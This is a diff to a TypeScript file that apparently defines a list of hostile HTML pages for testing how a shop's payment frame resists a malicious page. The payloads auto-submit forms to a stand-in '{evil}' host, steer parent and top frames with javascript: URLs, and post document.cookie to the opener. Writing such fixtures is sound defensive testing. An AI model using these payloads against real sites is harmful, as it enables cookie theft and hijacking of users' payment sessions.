@@ -3,6 +3,8 @@
 export interface Attack {
   readonly what: string;
   readonly html: string;
+  /** It is shown as it came, scripts and all. */
+  readonly runs?: true;
 }
 
 /** Runs where scripts may run, and then tells the attacker what it got. */
@@ -17,7 +19,11 @@ const plain = (attributes: string, inside = '', around = ''): string =>
   `<!doctype html><body>${around}<form name="f" method="post" ${attributes}><input type="hidden" name="MD" value="1">${inside}</form><script>document.f.submit()</script>`;
 const toEvil = 'action="{evil}/done"';
 
-const scripted = (what: string, code: string, more?: string): Attack => ({ what, html: run(code, more) });
+const scripted = (what: string, code: string, more?: string): Attack => ({
+  what,
+  html: run(code, more),
+  runs: true,
+});
 
 export const ATTACKS: readonly Attack[] = [
   // After what the shop's origin keeps.
@@ -40,7 +46,7 @@ export const ATTACKS: readonly Attack[] = [
   },
   { what: 'posts a plain form into the shop’s tab', html: plain(`${toEvil} target="shop-tab"`) },
   scripted('steers the parent', 'parent.location.href = "javascript:alert(1)"'),
-  scripted('steers the top', 'top.location.href = "javascript:document.cookie"'),
+  scripted('steers the top', 'top.location.href = "javascript:void(opener && opener.postMessage(document.cookie))"'),
   scripted(
     'goes back to our page and looks',
     'history.back(); say(document.documentElement.innerHTML.indexOf("eximpe-page"))',
